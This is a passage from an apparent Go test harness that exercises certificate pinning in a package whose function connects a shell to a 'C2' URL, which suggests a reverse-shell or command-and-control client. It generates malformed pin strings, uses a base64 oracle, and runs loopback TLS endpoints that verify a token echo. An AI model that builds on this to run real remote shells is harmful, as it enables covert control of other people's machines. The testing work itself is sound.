				own = own || bytes.Equal(mine, q)
			}
			if !own {
				return q
			}
		}
		return make([]byte, 32)
	}
	switch class {
	case "unpinned":
		return "", true
	case "exact":
		return b64(p), true
	case "prefixed":
		return prefix + b64(p), true
	case "pos1", "prefixed-pos1":
		if len(id.pins) < 2 {
			return "", false
		}
		if class == "pos1" {
			return b64(id.pins[1]), true
		}
		return prefix + b64(id.pins[1]), true
	case "pos2":
		if len(id.pins) < 3 {
			return "", false
		}
		return b64(id.pins[2]), true
	case "noncanonical-bits":
		// the 43rd character carries 4 data bits and 2 padding bits; set the padding bits
		const alpha = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
		s := []byte(b64(p))
		v := strings.IndexByte(alpha, s[42])
		s[42] = alpha[v|(1+rng.IntN(3))]
		return string(s), true
	case "trailing-newline":
		return b64(p) + "\n", true
	case "crlf-inside":
		s := b64(p)
		k := 4 * (1 + rng.IntN(9))
		return s[:k] + "\r\n" + s[k:], true
	case "other-server":
		return b64(otherPin()), true
	case "prefixed-other":
		return prefix + b64(otherPin()), true
	case "bitflip-lo":
		return flip(0, 16), true
	case "bitflip-hi":
		return flip(16, 32), true
	case "bitflip-last":
		q := bytes.Clone(p)
		q[31] ^= 1
		return b64(q), true
	case "zero":
		return b64(make([]byte, 32)), true
	case "cert-hash": // the certificate's fingerprint instead of the key's
		h := sha256.Sum256(id.Chain[0])
		return b64(h[:]), true
	case "double-prefix":
		return prefix + prefix + b64(p), true
	case "no-padding":
		return strings.TrimRight(b64(p), "="), true
	case "prefixed-no-padding":
		return prefix + strings.TrimRight(b64(p), "="), true
	case "urlsafe":
		return base64.URLEncoding.EncodeToString(p), true
	case "len31":
		return b64(p[:31]), true
	case "prefixed-len31":
		return prefix + b64(p[:31]), true
	case "len33":
		return b64(append(bytes.Clone(p), byte(rng.IntN(256)))), true
	case "prefix-only":
		return prefix, true
	case "garbage":
		const g = "!@#$%^&*()[]{};:,.<>?~ abcxyz"
		n := 1 + rng.IntN(60)
		s := make([]byte, n)
		for i := range s {
			s[i] = g[rng.IntN(len(g))]
		}
		s[rng.IntN(n)] = '!' // never accidentally base64
		return string(s), true
	case "trailing-space":
		return b64(p) + " ", true
	case "leading-space":
		return " " + b64(p), true
	case "hex":
		return hex.EncodeToString(p), true
	case "upper-prefix":
		return "SHA256//" + b64(p), true
	case "blank-space":
		return " ", true
	case "blank-tab":
		return "\t", true
	case "blank-lf":
		return "\n", true
	case "blank-cr":
		return "\r", true
	case "blank-crlf":
		return "\r\n", true
	case "blank-nbsp":
		return "\u00a0", true
	case "blank-spaces": // up to and beyond the length of a real pin
		return strings.Repeat(" ", 2+rng.IntN(51)), true
	case "blank-mixed":
		return blanks(rng, 2+rng.IntN(9), false), true
	case "prefix-space":
		return prefix + " ", true
	case "prefix-lf":
		return prefix + "\n", true
	case "prefix-mixed":
		return prefix + blanks(rng, 1+rng.IntN(6), false), true
	case "lf-padded":
		return "\n" + b64(p) + "\n", true
	case "crlf-leading":
		return "\r\n" + b64(p), true
	case "prefix-lf-pin":
		return prefix + "\n" + b64(p), true
	case "wrong-pin-lf-padded":
		return []string{"\n", "\r\n", ""}[rng.IntN(3)] + b64(otherPin()) + "\n", true
	case "tab-padded", "nbsp-padded":
		ws := map[string]string{"tab-padded": "\t", "nbsp-padded": "\u00a0"}[class]
		switch rng.IntN(3) {
		case 0:
			return ws + b64(p), true
		case 1:
			return b64(p) + ws, true
		}
		return ws + b64(p) + ws, true
	case "space-both":
		return " " + b64(p) + " ", true
	case "mixed-padded":
		l, t := rng.IntN(4), rng.IntN(4)
		if l+t == 0 {
			t = 1
		}
		// at least one character that is neither CR nor LF, at either end
		if l > 0 && (t == 0 || rng.IntN(2) == 0) {
			return blanks(rng, l, true) + b64(p) + blanks(rng, t, false), true
		}
		return blanks(rng, l, false) + b64(p) + blanks(rng, t, true), true
	case "prefix-space-pin":
		return prefix + " " + b64(p), true
	case "space-before-prefix":
		return " " + prefix + b64(p), true
	case "lf-before-prefix":
		return "\n" + prefix + b64(p), true
	case "wrong-pin-tab-padded":
		return "\t" + b64(otherPin()) + []string{"", "\t", " "}[rng.IntN(3)], true
	case "single-slash-prefix":
		return "sha256/" + b64(p), true
	}
	panic("unknown spelling class " + class)
}

// ownDecode is the harness's own RFC 4648 §4 decoder (standard alphabet,
// mandatory padding, CR and LF skipped, non-zero padding bits tolerated — the
// same language encoding/base64.StdEncoding accepts), written from the RFC so
// that the oracle does not rest on one decoder alone.
func ownDecode(s string) ([]byte, bool) {
	val := func(c byte) int {
		switch {
		case c >= 'A' && c <= 'Z':
			return int(c - 'A')
		case c >= 'a' && c <= 'z':
			return int(c-'a') + 26
		case c >= '0' && c <= '9':
			return int(c-'0') + 52
		case c == '+':
			return 62
		case c == '/':
			return 63
		}
		return -1
	}
	var cs []byte
	for i := 0; i < len(s); i++ {
		if s[i] != '\r' && s[i] != '\n' {
			cs = append(cs, s[i])
		}
	}
	if len(cs)%4 != 0 {
		return nil, false
	}
	var out []byte
	for i := 0; i < len(cs); i += 4 {
		q := cs[i : i+4]
		last := i+4 == len(cs)
		n := 4
		if last && q[3] == '=' {
			n = 3
			if q[2] == '=' {
				n = 2
			}
		}
		var v [4]int
		for j := 0; j < n; j++ {
			if v[j] = val(q[j]); v[j] < 0 {
				return nil, false
			}
		}
		out = append(out, byte(v[0]<<2|v[1]>>4))
		if n > 2 {
			out = append(out, byte(v[1]<<4|v[2]>>2))
		}
		if n > 3 {
			out = append(out, byte(v[2]<<6|v[3]))
		}
	}
	return out, true
}

// expectation is the oracle's answer for one (chain, fingerprint string).
type expectation struct {
	Expect      string `json:"expect"`                 // accept | refuse-handshake | refuse-outright
	AltOutright bool   `json:"alt_outright,omitempty"` // the string contains CR/LF: refusing it outright is tolerated as well
	Pinned      bool   `json:"pinned"`
	MatchPos    int    `json:"match_pos"`   // position of the matching presented certificate, -1 = absent
	DecodedLen  int    `json:"decoded_len"` // -1 = not base64
	Disagree    bool   `json:"decoders_disagree,omitempty"`
}

// oracle: pure function of the presented chain and the fingerprint string.
func oracle(id *identity, fp string) expectation {
	if fp == "" {
		e := expectation{Expect: "refuse-handshake", MatchPos: -1, DecodedLen: -1}
		if id.valid() {
			e.Expect = "accept"
		}
		return e
	}
	e := expectation{Pinned: true, MatchPos: -1, DecodedLen: -1, Expect: "refuse-outright"}
	rest := fp
	if strings.HasPrefix(rest, prefix) {
		rest = rest[len(prefix):]
	}
	own, ok := ownDecode(rest)
	std, err := base64.StdEncoding.DecodeString(rest)
	if ok != (err == nil) || (ok && !bytes.Equal(own, std)) {
		e.Disagree = true
		return e
	}
	if !ok {
		return e
	}
	e.DecodedLen = len(own)
	if len(own) != 32 {
		return e
	}
	e.AltOutright = strings.ContainsAny(rest, "\r\n")
	e.Expect = "refuse-handshake"
	for i, p := range id.pins {
		if bytes.Equal(p, own) {
			e.Expect, e.MatchPos = "accept", i
			break
		}
	}
	return e
}

// ---- endpoints: one listener per call -----------------------------------------

type endpoint struct {
	kind  string // raw | https
	h2    bool
	tls13 bool
	id    *identity
	token string
	tcp   net.Listener
	url   string
	srv   *http.Server

	mu           sync.Mutex
	probeAddr    string
	probeSeen    chan struct{}
	accepts      int // TCP connections, the harness's own probe excluded
	open         int
	clientHellos int
	handshakes   int
	appByteConns int // connections on which ≥1 application byte was read after the handshake (raw) / that became active (https)
	appBytes     int
	handlerRuns  int
	echoed       int
	reqLine      string
	sni          string // server name of the last client hello
	sniSeen      bool
	events       []string
	conns        map[net.Conn]struct{}
	closed       bool
	wg           sync.WaitGroup
}

func (ep *endpoint) logf(f string, a ...any) {
	ep.mu.Lock()
	if len(ep.events) < 40 {
		ep.events = append(ep.events, fmt.Sprintf(f, a...))
	}
	ep.mu.Unlock()
}

type monConn struct {
	net.Conn
	ep   *endpoint
	once sync.Once
}

func (c *monConn) Close() error {
	c.once.Do(func() {
		c.ep.mu.Lock()
		c.ep.open--
		delete(c.ep.conns, c)
		c.ep.mu.Unlock()
	})
	return c.Conn.Close()
}

// monListener counts accepts and swallows the harness's probe connection.
type monListener struct{ ep *endpoint }

func (l monListener) Accept() (net.Conn, error) {
	ep := l.ep
	for {
		c, err := ep.tcp.Accept()
		if err != nil {
			return nil, err
		}
		if !ownSocket(c.RemoteAddr()) && !toolSocket(c) {
			// not a client of this process (see ownSocket) nor of a command-line tool it is
			// running (cli.go): not part of any call
			foreignConns.Add(1)
			ep.logf("connection from %s, which is no socket of this process: ignored", c.RemoteAddr())
			c.Close()
			continue
		}
		ep.mu.Lock()
		if ep.probeAddr != "" && c.RemoteAddr().String() == ep.probeAddr {
			ep.probeAddr = ""
			close(ep.probeSeen)
			ep.mu.Unlock()
			c.Close()
			continue
		}
		if ep.closed {
			ep.mu.Unlock()
			c.Close()
			continue
		}
		ep.accepts++
		ep.open++
		mc := &monConn{Conn: c, ep: ep}
		ep.conns[mc] = struct{}{}
		if len(ep.events) < 40 {
			ep.events = append(ep.events, "tcp-accept")
		}
		ep.mu.Unlock()
		return mc, nil
	}
}
func (l monListener) Close() error   { return l.ep.tcp.Close() }
func (l monListener) Addr() net.Addr { return l.ep.tcp.Addr() }

var tokenCtr atomic.Int64

// listenRetries counts the waits for a free port in startEndpoint.
var listenRetries atomic.Int64

func startEndpoint(id *identity, kind string, h2, tls13 bool) (*endpoint, error) {
	// The machine's ephemeral ports are a budget shared with every process
	// (connections in TIME-WAIT count for a minute): when none is free, wait for one.
	var tcp net.Listener
	var err error
	for try := 0; ; try++ {
		tcp, err = net.Listen("tcp", "127.0.0.1:0")
		if err == nil || !errors.Is(err, syscall.EADDRINUSE) || try >= 180 {
			break
		}
		listenRetries.Add(1)
		time.Sleep(500 * time.Millisecond)
	}
	if err != nil {
		return nil, err
	}
	var nonce [6]byte
	rand.Read(nonce[:])
	ep := &endpoint{kind: kind, h2: h2 && kind == "https", tls13: tls13, id: id, tcp: tcp,
		token: fmt.Sprintf("c13-token-%d-%d-%x", os.Getpid(), tokenCtr.Add(1), nonce),
		url:   "https://" + tcp.Addr().String() + simpleshell.IOPath,
		conns: map[net.Conn]struct{}{}, probeSeen: make(chan struct{})}
	cfg := &tls.Config{
		Certificates: []tls.Certificate{id.cert},
		MinVersion:   tls.VersionTLS12,
		NextProtos:   []string{"http/1.1"},
		GetConfigForClient: func(h *tls.ClientHelloInfo) (*tls.Config, error) {
			ep.mu.Lock()
			ep.clientHellos++
			ep.sni, ep.sniSeen = h.ServerName, true
			ep.mu.Unlock()
			ep.logf("client-hello sni=%q", h.ServerName)
			return nil, nil
		},
	}
	if !tls13 {
		cfg.MaxVersion = tls.VersionTLS12
	}
	if ep.h2 {
		cfg.NextProtos = []string{"h2", "http/1.1"}
	}
	if kind == "raw" || kind == "plain" {
		if kind == "plain" { // no TLS at all (observation only)
			ep.url = "http://" + tcp.Addr().String() + simpleshell.IOPath
		}
		go func() {
			for {
				c, err := (monListener{ep}).Accept()
				if err != nil {
					return
				}
				ep.wg.Add(1)
				go func() {
					defer ep.wg.Done()
					if kind == "plain" {
						ep.serveRaw(c)
					} else {
						ep.serveRaw(tls.Server(c, cfg))
					}
				}()
			}
		}()
		return ep, nil
	}
	ep.srv = &http.Server{
		Handler:  http.HandlerFunc(ep.handle),
		ErrorLog: log.New(io.Discard, "", 0),
		ConnState: func(_ net.Conn, st http.ConnState) {
			if st == http.StateActive {
				ep.mu.Lock()
				ep.appByteConns++
				ep.mu.Unlock()
				ep.logf("conn-active (request bytes read)")
			}
		},
	}
	go ep.srv.Serve(tls.NewListener(monListener{ep}, cfg))
	return ep, nil
}

// serveRaw is the raw crypto/tls server: handshake, then a hand-written
// HTTP/1.1 exchange — reply at once with a chunked response carrying the
// token, wait for the token to come back in the request body, end the response.
func (ep *endpoint) serveRaw(tc net.Conn) {
	defer tc.Close()
	tc.SetDeadline(time.Now().Add(30 * time.Second))
	if t, ok := tc.(*tls.Conn); ok {
		if err := t.Handshake(); err != nil {
			ep.logf("handshake-failed: %v", err)
			return
		}
		ep.mu.Lock()
		ep.handshakes++
		ep.mu.Unlock()
		ep.logf("handshake-done %s", tls.VersionName(t.ConnectionState().Version))
	}
	var buf []byte
	tmp := make([]byte, 4096)
	hdrEnd := -1
	echoed := false
	for {
		n, err := tc.Read(tmp)
		if n > 0 {
			ep.mu.Lock()
			if len(buf) == 0 {
				ep.appByteConns++
			}
			ep.appBytes += n
			ep.mu.Unlock()
			if len(buf) == 0 {
				ep.logf("first-application-byte")
			}
			buf = append(buf, tmp[:n]...)
		}
		if hdrEnd < 0 {
			if i := bytes.Index(buf, []byte("\r\n\r\n")); i >= 0 {
				hdrEnd = i + 4
				line, _, _ := bytes.Cut(buf, []byte("\r\n"))
				ep.mu.Lock()
				ep.reqLine = string(line)
				ep.handlerRuns++
				ep.mu.Unlock()
				ep.logf("request-head %q", line)
				t := ep.token + "\n"
				fmt.Fprintf(tc, "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nTransfer-Encoding: chunked\r\n\r\n%x\r\n%s\r\n", len(t), t)
			}
		}
		if hdrEnd >= 0 && !echoed && bytes.Contains(buf[hdrEnd:], []byte(ep.token)) {
			echoed = true
			ep.mu.Lock()
			ep.echoed++
			ep.mu.Unlock()
			ep.logf("token-echoed")
			io.WriteString(tc, "0\r\n\r\n")
			tc.SetDeadline(time.Now().Add(5 * time.Second))
		}
		if echoed && bytes.HasSuffix(buf, []byte("0\r\n\r\n")) {
			return
		}
		if err != nil {
			if err != io.EOF {
				ep.logf("read-error: %v", err)
			}
			return
		}
	}
}

// handle does what the real /io handler does (full duplex, header at once) and
// then plays operator: one token line down, wait for it to come back up.
func (ep *endpoint) handle(w http.ResponseWriter, req *http.Request) {
	ep.mu.Lock()
	ep.handlerRuns++
	ep.reqLine = req.Method + " " + req.URL.Path + " " + req.Proto
	ep.mu.Unlock()
	ep.logf("handler-ran %s %s %s", req.Method, req.URL.Path, req.Proto)
	rc := http.NewResponseController(w)
	rc.EnableFullDuplex() // not supported (and not needed) over HTTP/2
	w.WriteHeader(http.StatusOK)
	rc.Flush()
	io.WriteString(w, ep.token+"\n")
	if err := rc.Flush(); err != nil {
		ep.logf("flush: %v", err)
		return
	}
	var buf []byte
	tmp := make([]byte, 4096)
	for {
		n, err := req.Body.Read(tmp)
		buf = append(buf, tmp[:n]...)
		if bytes.Contains(buf, []byte(ep.token)) {
			ep.mu.Lock()
			ep.echoed++
			ep.mu.Unlock()
			ep.logf("token-echoed")
			return
		}
		if err != nil {
			ep.logf("body: %v", err)
			return
		}
	}
}

// probe is the positive control behind every "nothing arrived" observation:
// the harness connects itself and waits until the accept loop has seen that
// connection; the accept queue is FIFO, so every connection made before it
// has been counted by then.
func (ep *endpoint) probe() bool {
	ep.mu.Lock()
	ep.probeSeen = make(chan struct{}) // re-armed for every probe (endpoints shared by several calls)
	seen := ep.probeSeen
	c, err := net.DialTimeout("tcp", ep.tcp.Addr().String(), 5*time.Second)
	if err != nil {
		ep.mu.Unlock()
		return false
	}
	ep.probeAddr = c.LocalAddr().String()
	ep.mu.Unlock()
	if tc, ok := c.(*net.TCPConn); ok {
		tc.SetLinger(0) // no data on it: closed by reset, it leaves no TIME-WAIT entry behind (port budget)
	}
	defer c.Close()
	select {
	case <-seen:
		return true
	case <-time.After(10 * time.Second):
		return false
	}
}

// waitIdle waits until every accepted connection has been closed by its
// server-side handler (bounded).
func (ep *endpoint) waitIdle(d time.Duration) bool {
	deadline := time.Now().Add(d)
	for {
		ep.mu.Lock()
		n := ep.open
		ep.mu.Unlock()
		if n == 0 {
			return true
		}
		if time.Now().After(deadline) {
			return false
		}
		time.Sleep(200 * time.Microsecond)
	}
}

func (ep *endpoint) close() {
	ep.mu.Lock()
	ep.closed = true
	cs := make([]net.Conn, 0, len(ep.conns))
	for c := range ep.conns {
		cs = append(cs, c)
	}
	ep.mu.Unlock()
	ep.tcp.Close()
	if ep.srv != nil {
		ep.srv.Close()
	}
	for _, c := range cs {
		c.Close()
	}
}

// ---- snapshot of the process-wide client --------------------------------------

func ident(v any) string {
	if v == nil {
		return "nil"
	}
	rv := reflect.ValueOf(v)
	switch rv.Kind() {
	case reflect.Pointer, reflect.Func, reflect.Map, reflect.Chan, reflect.Slice, reflect.UnsafePointer:
		if rv.IsNil() {
			return fmt.Sprintf("%T(nil)", v)
		}
		return fmt.Sprintf("%T@%#x", v, rv.Pointer())
	}
	return fmt.Sprintf("%T=%v", v, v)
}

func tlsSummary(c *tls.Config) string {
	if c == nil {
		return "nil"
	}
	return fmt.Sprintf("%p{InsecureSkipVerify:%v VerifyConnection:%v VerifyPeerCertificate:%v RootCAs:%p ServerName:%q NextProtos:%v Min:%#x Max:%#x Certificates:%d GetClientCertificate:%v ClientSessionCache:%s}",
		c, c.InsecureSkipVerify, c.VerifyConnection != nil, c.VerifyPeerCertificate != nil, c.RootCAs, c.ServerName, c.NextProtos, c.MinVersion, c.MaxVersion, len(c.Certificates), c.GetClientCertificate != nil, ident(c.ClientSessionCache))
}

// takeSnap copies what the statement calls "default HTTP client settings"
// (procconf.go: every exported field, TLS configurations deeply).
func (w *world) takeSnap() map[string]string { return snapClient(w.pc) }

func snapDiff(a, b map[string]string) []string {
	var d []string
	for k, v := range a {
		if b[k] != v {
			d = append(d, fmt.Sprintf("%s: %s -> %s", k, v, b[k]))
		}
	}
	for k, v := range b {
		if _, ok := a[k]; !ok {
			d = append(d, fmt.Sprintf("%s: (absent) -> %s", k, v))
		}
	}
	sort.Strings(d)
	return d
}

// ---- a process that resumes TLS sessions ----------------------------------------

// countingCache is the TLS client session cache an application may give to
// the process-wide transport (tls.NewLRUClientSessionCache), with counters.
type countingCache struct {
	inner              tls.ClientSessionCache
	gets, hits, stores atomic.Int64
}

func (c *countingCache) Get(key string) (*tls.ClientSessionState, bool) {
	c.gets.Add(1)
	s, ok := c.inner.Get(key)
	if ok && s != nil {
		c.hits.Add(1)
	}
	return s, ok
}

func (c *countingCache) Put(key string, s *tls.ClientSessionState) {
	if s != nil {
		c.stores.Add(1)
	}
	c.inner.Put(key, s)
}

// useProcessSessionCache configures the process the way an application that
// wants its own HTTPS requests to resume TLS sessions does:
//
//	http.DefaultTransport.(*http.Transport).TLSClientConfig = &tls.Config{ClientSessionCache: tls.NewLRUClientSessionCache(64)}
//
// It must run before the transport's first use: net/http's lazy HTTP/2 set-up
// (ForceAttemptHTTP2 is set on DefaultTransport) then adds its NextProtos to
// this very tls.Config, and every snapshot is taken with the setting in place.
// Nothing else is set: un-pinned calls keep ordinary validation (system roots,
// i.e. SSL_CERT_FILE).
func (w *world) useProcessSessionCache() bool {
	t, ok := http.DefaultTransport.(*http.Transport)
	if !ok || t.TLSClientConfig != nil {
		return false
	}
	w.cache = &countingCache{inner: tls.NewLRUClientSessionCache(64)}
	t.TLSClientConfig = &tls.Config{ClientSessionCache: w.cache}
	return true
}

// resumeControl is the positive control of the same-server engine: the
// harness's own TLS client, with a session cache of its own, connects twice to
// the endpoint and reads a response each time; the second connection must be a
// resumption, i.e. the server does hand out sessions a later connection may
// resume.  Run after the calls of a sequence (its connections are not theirs).
func (ep *endpoint) resumeControl() bool {
	cfg := &tls.Config{InsecureSkipVerify: true, ClientSessionCache: tls.NewLRUClientSessionCache(2), NextProtos: []string{"http/1.1"}}
	for i := 0; i < 2; i++ {
		c, err := tls.DialWithDialer(&net.Dialer{Timeout: 5 * time.Second}, "tcp", ep.tcp.Addr().String(), cfg)
		if err != nil {
			return false
		}
		c.SetDeadline(time.Now().Add(5 * time.Second))
		io.WriteString(c, "GET /c13-resumption-control HTTP/1.1\r\nHost: control\r\nConnection: close\r\n\r\n")
		var one [1]byte
		n, _ := c.Read(one[:]) // TLS 1.3 tickets come in with the first application data
		resumed := c.ConnectionState().DidResume
		c.Close()
		if n == 0 || (i == 0 && resumed) {
			return false
		}
		if i == 1 {
			return resumed
		}
	}
	return false
}

// ---- one call ------------------------------------------------------------------

type callSpec struct {
	Ident    int    `json:"identity"`
	Class    string `json:"identity_class"`
	ChainLen int    `json:"chain_len"`
	Kind     string `json:"server"` // raw | https
	H2       bool   `json:"h2"`
	TLS13    bool   `json:"tls13"`
	Intent   string `json:"intent"` // right | wrong | malformed | unpinned (generator's intent only)
	Spelling string `json:"spelling"`
	FP       string `json:"fingerprint"`
	// Scheme is how the scheme of the C2 URL is spelled: https | HTTPS | Https | hTTpS.
	// Schemes are case-insensitive (RFC 3986 §3.1), the oracle never looks at it.
	Scheme string `json:"url_scheme"`
	// Host is how the host of the C2 URL is spelled ("" = the listener's IP literal);
	// HostKind names the generator's class (hosts.go).  The oracle of a pinned call
	// never looks at it; that of an un-pinned call asks whether the certificate names it.
	Host     string `json:"url_host,omitempty"`
	HostKind string `json:"url_host_kind,omitempty"`
	// Role / PinRole: twin role of the server and of the identity whose pin is configured (twins.go).
	Role    string `json:"twin_role,omitempty"`
	PinRole string `json:"pin_of_twin_role,omitempty"`
	// LongKind: kind of the long-chain identity the server presents (longchains.go).
	LongKind string `json:"long_chain_kind,omitempty"`
}

// schemeVariants are the not-all-lower-case spellings of the scheme.
var schemeVariants = []string{"HTTPS", "Https", "hTTpS"}

func (s callSpec) lowerScheme() bool { return s.Scheme == "" || s.Scheme == "https" }

// c2 is the URL handed to simpleshell.Go for this call against ep: the
// endpoint's URL with the scheme spelled as the call wants it.
func (s callSpec) c2(ep *endpoint) string {
	u := ep.url
	if rest, ok := strings.CutPrefix(u, "https://"); ok && s.Host != "" {
		if _, port, err := net.SplitHostPort(ep.tcp.Addr().String()); err == nil {
			_, path, _ := strings.Cut(rest, "/")
			u = "https://" + s.Host + ":" + port + "/" + path
		}
	}
	if rest, ok := strings.CutPrefix(u, "https://"); ok && !s.lowerScheme() {
		return s.Scheme + "://" + rest
	}
	return u
}

type callResult struct {
	Spec         callSpec    `json:"call"`
	C2           string      `json:"c2_url"`
	Exp          expectation `json:"expected"`
	Observed     string      `json:"observed"`
	Err          string      `json:"go_error"`
	Accepts      int         `json:"tcp_accepts"`
	ClientHellos int         `json:"client_hellos"`
	Handshakes   int         `json:"handshakes_done"`
	AppByteConns int         `json:"conns_with_application_bytes"`
	AppBytes     int         `json:"application_bytes"`
	HandlerRuns  int         `json:"handler_runs"`
	Echoed       int         `json:"tokens_echoed"`
	ReqLine      string      `json:"request_line,omitempty"`
	SNI          string      `json:"sni_of_last_client_hello,omitempty"`
	SNISeen      bool        `json:"client_hello_seen,omitempty"`
	Connects     []string    `json:"connect_requests_at_the_harness_proxy,omitempty"`
	Events       []string    `json:"server_events,omitempty"`
	SnapDiff     []string    `json:"default_client_diff,omitempty"`
	PinnedBefore int64       `json:"pinned_calls_started_before_in_process"`
	PinnedByEnd  int64       `json:"pinned_calls_started_by_end_in_process"`
	Watchdog     bool        `json:"watchdog,omitempty"`
	Key          string      `json:"verdict_key,omitempty"`
	What         string      `json:"verdict,omitempty"`
	Ms           int64       `json:"ms"`
}

type world struct {
	r      *mon.Run
	ids    []*identity
	self   []*identity
	cav    map[string][]*identity
	pinned atomic.Int64                 // well-formed pinned calls started in this process
	cache  *countingCache               // != nil: this process has given http.DefaultTransport a TLS client session cache
	pc     *procConf                    // what this process has put on http.DefaultClient before the first call (procconf.go)
	groups map[int]map[string]*identity // certificate-twin groups by number and role (twins.go)
	gorder []int
	proxy  *connectProxy // != nil: this process has HTTPS_PROXY pointing at the harness's CONNECT proxy (hosts.go)
	direct bool          // "localhost" resolves to 127.0.0.1 in this process without the proxy
	shook  map[int]int   // identity -> sequential calls of this process in which it was sent a client hello
	long   []*identity   // long-chain identities (processes of the long engine only; longchains.go)
	mu     sync.Mutex
	hist   []string
	seen   map[string]int
}

const callTimeout = 20 * time.Second

func (w *world) note(res *callResult) {
	w.mu.Lock()
	if len(w.hist) < 400 {
		w.hist = append(w.hist, fmt.Sprintf("%s://id%d/%s/%s %s(%s) expect=%s observed=%s", res.Spec.Scheme, res.Spec.Ident, res.Spec.Class, res.Spec.Kind, res.Spec.Intent, res.Spec.Spelling, res.Exp.Expect, res.Observed))
	}
	w.mu.Unlock()
}

func (w *world) history() []string {
	w.mu.Lock()
	defer w.mu.Unlock()
	h := w.hist
	if len(h) > 40 {
		h = h[len(h)-40:]
	}
	return append([]string(nil), h...)
}

// countSnap counts one before/after comparison and what it covered.
func (w *world) countSnap(before map[string]string) {
	r := w.r
	r.Count("snapshot_checks", 1)
	r.Count("snapshot_fields_compared", int64(len(before)))
	if w.pc != nil && (w.pc.transport != nil || w.pc.inner != nil) {
		n := 0
		for k := range before {
			if strings.HasPrefix(k, "DefaultClient.Transport.") || strings.HasPrefix(k, "DefaultClient.Transport(wrapper).inner.") {
				n++
			}
		}
		if n > 0 {
			r.Count("snapshot_checks_covering_the_process_own_transport", 1)
			r.Count("own_transport_fields_compared", int64(n))
		}
	}
}

// exec makes one call against an endpoint of its own and classifies what was
// observed.  snap=false in concurrent sets (the set takes the snapshot).
func (w *world) exec(spec callSpec, snap bool) *callResult {
	res := w.execOn(spec, snap, nil)
	if !noServerSideTrace(res) {
		return res
	}
	// The client reports a failure ON an established TCP connection of which the
	// listener's accept loop has seen nothing, not even after the probe behind it
	// was accepted: the connection was reset below the application (the machine's
	// ephemeral ports are shared with every other process; seen under heavy port
	// churn).  Neither side of the property acted; the call is made again on a
	// fresh endpoint and that one is judged.
	w.r.Count("calls_repeated_after_a_reset_the_listener_never_saw", 1)
	res = w.execOn(spec, snap, nil)
	if noServerSideTrace(res) {
		w.r.Inconclusive("twice in a row a connection was reset before the listener accepted it: " + res.Err)
	}
	return res
}

var tcpFailRe = regexp.MustCompile(`(read|write) tcp [0-9.:\[\]a-f]+->[0-9.:\[\]a-f]+: (read|write): (connection reset by peer|broken pipe)`)

func noServerSideTrace(res *callResult) bool {
	return !res.Watchdog && res.Accepts == 0 && res.ClientHellos == 0 && len(res.Events) == 0 && tcpFailRe.MatchString(res.Err)
}

// execOn is exec against an endpoint shared with earlier calls of the same
// process (shared == nil: an endpoint of its own); the server-side counts are
// then the differences over this call.
func (w *world) execOn(spec callSpec, snap bool, shared *endpoint) *callResult {
	r := w.r
	id := w.ids[spec.Ident]
	res := &callResult{Spec: spec, Exp: oracleCall(id, spec)}
	ep := shared
	var base [7]int
	if ep == nil {
		var err error
		ep, err = startEndpoint(id, spec.Kind, spec.H2, spec.TLS13)
		if err != nil {
			res.Observed = "no-endpoint"
			r.Inconclusive("cannot start an endpoint: " + err.Error())
			return res
		}
		defer ep.close()
	} else {
		ep.mu.Lock()
		base = [7]int{ep.accepts, ep.clientHellos, ep.handshakes, ep.appByteConns, ep.appBytes, ep.handlerRuns, ep.echoed}
		ep.mu.Unlock()
	}
	res.C2 = spec.c2(ep)
	var before map[string]string
	if snap {
		before = w.takeSnap()
	}
	res.PinnedBefore = w.pinned.Load()
	if res.Exp.Pinned && res.Exp.Expect != "refuse-outright" {
		w.pinned.Add(1)
	}
	in, out, sh := simpleshell.NewEchoShell()
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	done := make(chan error, 1)
	t0 := time.Now()
	go func() {
		defer func() {
			if p := recover(); p != nil {
				done <- fmt.Errorf("PANIC in simpleshell.Go: %v", p)
			}
		}()
		done <- simpleshell.Go(ctx, simpleshell.ConnConfig{C2: res.C2, Fingerprint: spec.FP}, sh)
	}()
	var gerr error
	select {
	case gerr = <-done:
	case <-time.After(callTimeout):
		res.Watchdog = true
		cancel()
		ep.close()
		out.Close()
		in.Close()
		select {
		case gerr = <-done:
		case <-time.After(10 * time.Second):
			gerr = fmt.Errorf("simpleshell.Go did not return even after its server and pipes were closed")
		}
	}
	res.Ms = time.Since(t0).Milliseconds()
	in.Close()
	if gerr != nil {
		res.Err = gerr.Error()
	}
	// Negative observations come after a positive probe: our own connection has
	// been accepted, hence every earlier one has been; then every accepted
	// connection's server side has run to its end.
	idle := true
	if gerr != nil && !res.Watchdog {
		r.Count("probes", 1)
		if !ep.probe() {
			r.Inconclusive("probe connection to an endpoint was not accepted")
			res.Watchdog = true
		}
		idleWait := 5 * time.Second
		if shared != nil {
			// earlier accepted calls may legitimately have left a pooled connection open
			idleWait = 300 * time.Millisecond
		}
		if idle = ep.waitIdle(idleWait); !idle {
			r.Count("server_conns_still_open_after_refusal", 1)
		}
	}
	ep.mu.Lock()
	res.Accepts, res.ClientHellos, res.Handshakes = ep.accepts-base[0], ep.clientHellos-base[1], ep.handshakes-base[2]
	res.AppByteConns, res.AppBytes, res.HandlerRuns, res.Echoed = ep.appByteConns-base[3], ep.appBytes-base[4], ep.handlerRuns-base[5], ep.echoed-base[6]
	res.ReqLine = ep.reqLine
	res.SNI, res.SNISeen = ep.sni, ep.sniSeen
	res.Events = append([]string(nil), ep.events...)
	ep.mu.Unlock()
	if w.proxy != nil {
		res.Connects = w.proxy.connectsTo(ep.tcp.Addr().String())
	}
	res.PinnedByEnd = w.pinned.Load()
	switch {
	case res.Watchdog:
		res.Observed = "watchdog"
	case res.Echoed > 0 && gerr == nil:
		res.Observed = "accepted"
	case res.Echoed > 0:
		res.Observed = "accepted-then-error"
	case gerr == nil:
		res.Observed = "nil-without-exchange"
	case res.Accepts == 0:
		res.Observed = "refused-outright"
	case res.AppByteConns == 0 && res.HandlerRuns == 0:
		res.Observed = "refused-at-handshake"
	default:
		res.Observed = "refused-after-bytes"
	}
	if snap {
		w.countSnap(before)
		res.SnapDiff = snapDiff(before, w.takeSnap())
	}
	return res
}

// judge compares a result with its own oracle and returns a violation key
// ("" = held or inconclusive).
func (w *world) judge(res *callResult) (key, what string) {
	key, what = w.judge0(res)
	if key != "" && w.pc != nil && w.pc.name != "stock" {
		if ownTransportConfig(w.pc.name) && !strings.HasPrefix(key, "malformed-") {
